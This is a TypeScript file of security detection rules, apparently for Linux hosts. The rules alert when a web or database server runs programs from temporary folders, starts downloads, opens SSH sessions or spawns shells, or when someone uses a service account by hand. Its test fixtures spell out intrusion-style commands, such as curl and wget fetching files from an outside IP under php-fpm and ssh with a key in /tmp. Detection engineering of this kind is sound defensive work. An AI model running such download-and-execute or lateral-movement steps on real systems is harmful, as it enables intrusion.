import { defineRule, type Where } from '@cws/core'
import { isSwitchedBy } from '../ancestry.ts'
import { RAN } from '../authors.ts'
import { DOWNLOADERS, INTERPRETERS, SERVERS, SHELL_PROGRAMS, SHELLS, startsShell, WEB_SERVERS } from '../names.ts'
import { USER_SWITCHERS } from '../programs.ts'

const TEMPORARY = ['/tmp/**', '/var/tmp/**', '/dev/shm/**', '/run/user/**', '/run/lock/**'] as const

export const temporaryProgramFromServer = defineRule({
  id: 'temporary-program-from-server',
  name: 'A server ran a program out of a temporary folder',
  severity: 'high',
  tags: ['mitre:T1190', 'mitre:T1105', 'mitre:T1059'],
  on: 'exec',
  where: {
    'process.ancestors.file.name': SERVERS,
    any: [
      { 'exec.file.path': TEMPORARY },
      {
        'exec.file.name': [...SHELL_PROGRAMS, ...INTERPRETERS],
        'exec.args': { regex: '^(?:-\\S+ )*/(?:tmp|var/tmp|dev/shm|run/user|run/lock)/' },
      },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path', 'exec.file.path'],
  message: `${RAN} ran below a web or database server, from a folder that all can write: first something is dropped there through a hole of the server, then it is run.`,
  advice: 'Keep a copy of the file, find the request that brought it, and look at what the process is connected to. Isolate the host.',
  benign: ['Applications that build a program and run it at once'],
  tests: {
    fires: [
      { 'exec.file.path': '/tmp/x', 'exec.file.name': 'x', 'exec.args': '', 'process.ancestors.file.name': ['dash', 'php-fpm8.2'] },
      { 'exec.file.path': '/var/tmp/.a/b', 'exec.file.name': 'b', 'exec.args': '', 'process.ancestors.file.name': ['postgres'] },
      { 'exec.file.path': '/usr/bin/dash', 'exec.file.name': 'dash', 'exec.args': '/tmp/x.sh', 'process.ancestors.file.name': ['nginx'] },
      {
        'exec.file.path': '/usr/bin/perl',
        'exec.file.name': 'perl',
        'exec.args': '-w /dev/shm/a.pl',
        'process.ancestors.file.name': ['httpd'],
      },
    ],
    silent: [
      { 'exec.file.path': '/tmp/x', 'exec.file.name': 'x', 'exec.args': '', 'process.ancestors.file.name': ['bash', 'sshd'] },
      {
        'exec.file.path': '/usr/bin/convert',
        'exec.file.name': 'convert',
        'exec.args': '/tmp/a.png b.jpg',
        'process.ancestors.file.name': ['apache2'],
      },
      {
        'exec.file.path': '/usr/bin/dash',
        'exec.file.name': 'dash',
        'exec.args': '-c convert /tmp/a b',
        'process.ancestors.file.name': ['apache2'],
      },
    ],
  },
})

export const downloadFromServer = defineRule({
  id: 'download-from-web-server',
  name: 'A web server started a download',
  severity: 'medium',
  tags: ['mitre:T1105', 'mitre:T1190'],
  on: 'exec',
  where: { 'exec.file.name': [...DOWNLOADERS, 'ftp', 'tftp', 'scp', 'sftp', 'rsync'], 'process.ancestors.file.name': WEB_SERVERS },
  groupBy: ['container.id', 'process.parent.file.path', 'exec.file.path'],
  message: `${RAN} ran below a web server. Who can make a server run a command has it fetch tools next.`,
  advice:
    'See whether you know the address, find the request of that moment in the access log, and look for new files below the document root.',
  benign: ['Applications that call curl instead of a library', 'Deployments that a hook on a web server starts'],
  tests: {
    fires: [
      {
        'exec.file.name': 'curl',
        'exec.args': '-o /tmp/x http://203.0.113.5/x',
        'process.ancestors.file.name': ['dash', 'php-fpm8.2', 'systemd'],
      },
      { 'exec.file.name': 'wget', 'exec.args': 'http://203.0.113.5/x', 'process.ancestors.file.name': ['apache2'] },
    ],
    silent: [
      { 'exec.file.name': 'curl', 'exec.args': '-fsS http://localhost/health', 'process.ancestors.file.name': ['bash', 'sshd'] },
      { 'exec.file.name': 'gzip', 'exec.args': '-d x', 'process.ancestors.file.name': ['apache2'] },
    ],
  },
})

export const sshFromServer = defineRule({
  id: 'ssh-from-server',
  name: 'A web or database server logged in elsewhere',
  severity: 'medium',
  tags: ['mitre:T1021.004', 'mitre:T1570'],
  on: 'exec',
  where: { 'exec.file.name': ['ssh', 'dbclient', 'sshpass', 'plink'], 'process.ancestors.file.name': SERVERS },
  groupBy: ['container.id', 'process.parent.file.path', 'exec.args'],
  message: `${RAN} ran below a web or database server: an intruder goes on from there to the next host.`,
  advice: 'See whether the other host knows of it (`journalctl -t sshd` there), and look at what else the server started in that minute.',
  benign: ['Deployments and tunnels that the application itself opens'],
  tests: {
    fires: [
      { 'exec.file.name': 'ssh', 'exec.args': 'root@db', 'process.ancestors.file.name': ['dash', 'php-fpm8.2'] },
      { 'exec.file.name': 'ssh', 'exec.args': '-i /tmp/k backup@x', 'process.ancestors.file.name': ['postgres'] },
    ],
    silent: [
      { 'exec.file.name': 'ssh', 'exec.args': 'root@db', 'process.ancestors.file.name': ['bash', 'sshd'] },
      { 'exec.file.name': 'sshd', 'exec.args': '-D', 'process.ancestors.file.name': ['systemd'] },
    ],
  },
})

export const shellFromNetworkService = defineRule({
  id: 'shell-from-network-service',
  name: 'A network service started a shell',
  severity: 'medium',
  tags: ['mitre:T1190', 'mitre:T1210', 'mitre:T1059.004'],
  on: 'exec',
  where: {
    all: [
      startsShell,
      {
        'process.parent.file.name': [
          ...['smbd', 'named', 'slapd', 'squid', 'vsftpd', 'proftpd', 'pure-ftpd', 'haproxy', 'cups-browsed', 'foomatic-rip', 'rpcbind'],
          ...[
            'omiagent',
            'snmpd',
            'ntpd',
            'chronyd',
            'chromedriver',
            'geckodriver',
            'rsync',
            'mosquitto',
            'dovecot',
            'exim4',
            'avahi-daemon',
          ],
        ],
      },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path', 'exec.file.path'],
  message: `${RAN}: a service that answers strangers has no need of a shell; one that was broken into has.`,
  advice: 'Look at the log of the service for that moment, and see whether it is patched. If the command is not yours, isolate the host.',
  benign: ['Services that are told to run a script: `root preexec` of Samba, `extend` of snmpd, pipes of a mail server'],
  tests: {
    fires: [
      { 'exec.file.name': 'dash', 'exec.comm': 'sh', 'exec.args': '-c id', 'process.parent.file.name': 'foomatic-rip' },
      { 'exec.file.name': 'bash', 'exec.comm': 'bash', 'exec.args': '', 'process.parent.file.name': 'omiagent' },
    ],
    silent: [
      { 'exec.file.name': 'dash', 'exec.comm': 'sh', 'exec.args': '/etc/init.d/smbd start', 'process.parent.file.name': 'systemd' },
      { 'exec.file.name': 'smbd', 'exec.comm': 'smbd', 'exec.args': '-D', 'process.parent.file.name': 'smbd' },
    ],
  },
})

const asService: Where<'exec'> = {
  'exec.file.name': SHELLS,
  'process.tty_name': { not: '' },
  'process.user': [
    ...['www-data', 'apache', 'nginx', 'http', 'nobody', 'daemon', 'bin', 'sys', 'games', 'man', 'lp', 'mail', 'news', 'uucp', 'proxy'],
    ...['backup', 'list', 'irc', 'messagebus', 'sshd', 'redis', 'mongodb', 'memcache', 'tomcat', 'jetty', 'solr', 'elasticsearch'],
    ...['systemd-network', 'systemd-resolve', 'systemd-timesync'],
  ],
}
const BY_SUDO = {
  'process.uid': 33,
  'process.ancestors.uid': [0, 0, 1000],
  'process.ancestors.file.path': ['/usr/bin/sudo', '/usr/bin/sudo', '/usr/bin/bash'],
}

export const serviceAccountUsed = defineRule({
  id: 'service-account-used-by-hand',
  name: 'Somebody did something as a service account',
  severity: 'low',
  tags: ['mitre:T1078.003'],
  on: 'exec',
  where: asService,
  when: (event) => isSwitchedBy(event, USER_SWITCHERS),
  groupBy: ['container.id', 'process.user', 'process.tty_name'],
  message: `${RAN} has the terminal {{@process.tty_name}}, and its user by \`sudo\` or \`su\`: whoever may do that may do as much as the service.`,
  advice: 'None if an administrator looked after the service.',
  benign: ['Administrators of web applications, who run their tools as the service'],
  tests: {
    fires: [{ 'exec.file.name': 'dash', 'process.tty_name': 'pts0', 'process.user': 'www-data', ...BY_SUDO }],
    silent: [
      { 'exec.file.name': 'dash', 'process.tty_name': 'pts0', 'process.user': 'www-data' },
      { 'exec.file.name': 'dash', 'process.tty_name': '', 'process.user': 'www-data', ...BY_SUDO },
      { 'exec.file.name': 'dash', 'process.tty_name': 'pts0', 'process.user': 'ann', ...BY_SUDO },
    ],
  },
})

export const serviceAccountShell = defineRule({
  id: 'service-account-shell',
  name: 'Somebody types as a service account',
  severity: 'medium',
  tags: ['mitre:T1078.003', 'mitre:T1059.004'],
  on: 'exec',
  where: asService,
  // Whoever came by `sudo` or `su` is told of by a rule of its own.
  when: (event) => !isSwitchedBy(event, USER_SWITCHERS),
  groupBy: ['container.id', 'process.user', 'process.tty_name'],
  message: `${RAN} has the terminal {{@process.tty_name}}: nobody logs in as this user, which is there for a service alone. Intruders make themselves a terminal once they have a shell.`,
  advice: 'Look at what stands above the shell, and for a way by which it came: a web shell, a job of cron.',
  benign: ['Services that are given a terminal, and tools that become another user by themselves, such as `setpriv`'],
  tests: {
    fires: [
      { 'exec.file.name': 'bash', 'process.tty_name': 'pts0', 'process.user': 'www-data' },
      { 'exec.file.name': 'dash', 'process.tty_name': 'pts3', 'process.user': 'nobody' },
      // Below sudo, but as that user before it: a web shell that was given a terminal.
      {
        'exec.file.name': 'bash',
        'process.tty_name': 'pts0',
        'process.user': 'www-data',
        'process.uid': 33,
        'process.ancestors.uid': [33, 33, 0, 0],
        'process.ancestors.file.path': ['/usr/bin/script', '/usr/sbin/apache2', '/usr/sbin/apache2', '/usr/bin/sudo'],
      },
      {
        'exec.file.name': 'dash',
        'process.tty_name': 'pts0',
        'process.user': 'www-data',
        ...BY_SUDO,
        'process.ancestors.file.uid': [1000, 0, 0],
      },
    ],
    silent: [
      { 'exec.file.name': 'dash', 'process.tty_name': 'pts0', 'process.user': 'www-data', ...BY_SUDO },
      { 'exec.file.name': 'dash', 'process.tty_name': '', 'process.user': 'www-data' },
      { 'exec.file.name': 'bash', 'process.tty_name': 'pts0', 'process.user': 'ann' },
      { 'exec.file.name': 'php8.2', 'process.tty_name': 'pts0', 'process.user': 'www-data' },
    ],
  },
})
